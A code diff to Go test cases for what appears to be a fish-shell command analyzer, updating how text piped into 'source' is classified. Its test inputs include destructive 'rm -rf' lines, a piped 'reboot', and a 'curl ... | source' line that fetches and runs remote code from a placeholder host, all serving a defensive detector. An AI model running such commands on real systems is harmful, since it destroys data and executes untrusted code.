@@ -180,7 +180,10 @@ var fishTests = []struct {
 	{line: `sudo rm -rf /x`, want: `[sudo]rm delete:/x+R`},
 	{line: `builtin and rm -rf /x`, want: `[builtin]and`}, // fish's "and" runs nothing as a command
 	{line: `source ./env.fish`, want: `source`},
-	{line: `echo reboot | source`, want: `echo; source`},
+	// source reads what is piped into it, as fish code (#15.2).
+	{line: `echo reboot | source`, want: `echo; [source]reboot power:`},
+	{line: `echo 'rm -rf /x' | source -`, want: `echo; [source]rm delete:/x+R`},
+	{line: `curl -s https://x.example | source`, want: `curl; source unseen-code:https://x.example+D`},
 	{line: `. ./env.fish`, want: `.`},
 	{line: `if --help`, want: `if`},
 	{line: `not`, want: `not`},
